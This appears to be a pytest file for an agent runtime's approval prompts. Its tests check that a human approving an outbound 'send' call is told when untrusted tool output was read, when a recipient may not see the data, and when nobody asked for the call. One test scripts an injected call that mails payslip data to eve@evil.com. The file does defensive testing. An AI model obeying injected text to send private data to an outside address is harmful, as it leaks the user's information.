"""A card says all that there is against a call: that approval is wanted hides nothing of flow's."""

import asyncio
from pathlib import Path
from typing import Any

from tests.flow.post import HOSTILE, Office, approve, call, happened, of, plans, sending

from jackline import From, tool
from jackline.core import events as e
from jackline.testing import Planned, planned

UNREADABLE = "bob@x.com may not read what was read here"
UNKNOWN = "untrusted text was read, and no plan says whether anybody asked for this call"


@tool(effect="read", readers={"ann@x.com"})
async def payslip() -> str:
    """Return a payslip."""
    return HOSTILE


@tool(effect="once")
async def note(text: str) -> None:
    """Take a note."""
    del text


def letters(path: Path, **options: Any) -> Office:
    to = {"to": From("user")}
    send = sending([], outbound=True, readers_from="to", critical=to, **options)
    return Office(f"sqlite:///{path}/jackline.db", payslip, note, send)


SEND = call("send", to="bob@x.com", body="91,000")


def asked(office: Office, *script: Any) -> tuple[list[str], int]:
    """Return what was asked, and how many plans were bought for it."""
    plan = planned(Planned("send", {"to": "bob@x.com"}, frozenset({"body"})))

    async def story() -> list[e.Event]:
        async with office.open(*script, "Done.", plan=plan) as runtime:
            result = await runtime.run("office", "Send my payslip to bob@x.com")
            while result.outcome == "paused":
                result = await approve(runtime, result)
            return await happened(runtime, result.session)

    events = asyncio.run(story())
    return [each.text for each in of(events, e.InputRequested)], plans(events)


def test_who_approves_is_told_that_somebody_may_not_read_what_was_read(tmp_path: Path) -> None:
    told = asked(letters(tmp_path, approve=True), [call("payslip")], [SEND])
    assert told == ([f"send needs approval; {UNKNOWN}; {UNREADABLE}"], 0)


def test_where_there_is_a_plan_it_says_what_is_against_the_call(tmp_path: Path) -> None:
    office = letters(tmp_path, approve=True)
    texts, bought = asked(office, [call("payslip")], [call("note", text="x")], [SEND])
    assert bought == 1
    assert texts[1] == f"send needs approval; {UNREADABLE}"


def test_who_approves_what_nobody_asked_for_is_told_so(tmp_path: Path) -> None:
    office = letters(tmp_path, approve=True)
    other = call("send", to="eve@evil.com", body="91,000")
    texts, _ = asked(office, [call("payslip")], [call("note", text="x")], [other])
    nobody = "nobody asked for this call of send, and untrusted text was read"
    assert texts[1] == f"send needs approval; {nobody}"


def test_before_anything_untrusted_was_read_approval_is_all_that_is_said(tmp_path: Path) -> None:
    assert asked(letters(tmp_path, approve=True), [SEND]) == (["send needs approval"], 0)
